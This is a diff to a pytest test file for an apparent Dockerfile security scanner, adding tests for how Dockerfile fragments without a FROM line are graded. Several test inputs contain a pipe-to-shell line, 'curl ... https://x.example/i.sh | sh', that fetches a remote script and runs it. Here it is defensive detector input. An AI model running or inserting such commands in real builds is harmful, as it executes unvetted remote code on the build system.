@@ -151,7 +151,7 @@ def test_suppression_on_the_line_above(tmp_path: Path) -> None:
     assert scan(tmp_path, text) == []
 
 
-@pytest.mark.parametrize("content", [b"\x00\x01binary", b"FROM x\nRUN <<EOF\nnever closed\n", b"RUN echo hi\n"])
+@pytest.mark.parametrize("content", [b"\x00\x01binary", b"FROM x\nRUN <<EOF\nnever closed\n", b"RUN echo hi\nFROM x\n"])
 def test_unparseable_files_are_a_finding(tmp_path: Path, content: bytes) -> None:
     path = tmp_path / "Dockerfile"
     path.write_bytes(content)
@@ -297,7 +297,7 @@ def test_an_index_given_through_a_build_argument_is_judged_by_the_url_it_sets(tm
     [
         ("# TODO: write the Dockerfile for the kfp-cli image\n\n# syntax hint\n", "low"),  # builds nothing
         ("# syntax=docker/dockerfile:1\n# TODO\n", "low"),  # Docker's own frontend: still nothing
-        ("# TODO\nRUN curl https://x.example/i.sh | sh\n", "medium"),  # instructions without FROM
+        ("# TODO\nRUN curl https://x.example/i.sh | sh\nFROM x\n", "medium"),  # an instruction before FROM
         ("# syntax=ghcr.io/some-user/frontend:latest\n# it reads build.yaml\n", "medium"),  # a custom frontend builds
     ],
 )
@@ -353,3 +353,26 @@ def test_an_option_url_of_a_program_other_than_an_installer_is_a_fetch(tmp_path:
 def test_an_installers_index_is_reported_once_by_the_pip_check(tmp_path: Path, run: str) -> None:
     rules = [rule for rule, _ in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")]
     assert "MLS509" in rules and "MLS505" not in rules, run
+
+
+def test_a_fragment_without_from_has_its_steps_checked(tmp_path: Path) -> None:
+    # Azure ML's extra_docker_file_steps and generators' includes: steps for a base named elsewhere.
+    text = "# extra steps\nRUN curl -fsSL https://x.example/i.sh | sh\nEXPOSE 22\nRUN pip install torch==2.3.1\n"
+    assert graded(tmp_path, text) == [("MLS503", 2, "high"), ("MLS512", 3, "medium"), ("MLS909", 2, "low")]
+
+
+def test_a_fragment_is_not_blamed_for_the_base_it_does_not_name(tmp_path: Path) -> None:
+    # No FROM to pin and no final USER to judge: the base image decides both. USER root still counts.
+    assert graded(tmp_path, "RUN pip install torch==2.3.1\n") == [("MLS909", 1, "low")]
+    assert graded(tmp_path, "RUN pip install torch==2.3.1\nUSER root\n") == [("MLS502", 2, "low"), ("MLS909", 1, "low")]
+    assert graded(tmp_path, "COPY --from=builder:latest /a /a\n") == [("MLS501", 1, "low"), ("MLS909", 1, "low")]
+
+
+def test_files_that_are_no_fragment_stay_unchecked_at_full_severity(tmp_path: Path) -> None:
+    # An instruction before a later FROM, a custom frontend, or a line that is no instruction.
+    for text, line in (
+        ("RUN curl -fsSL https://x.example/i.sh | sh\nFROM x\n", 1),
+        ("# syntax=ghcr.io/some-user/frontend:latest\nRUN echo hi\n", 2),
+        ("RUN echo hi\nthis is prose\n", 1),
+    ):
+        assert graded(tmp_path, text) == [("MLS909", line, "medium")], text
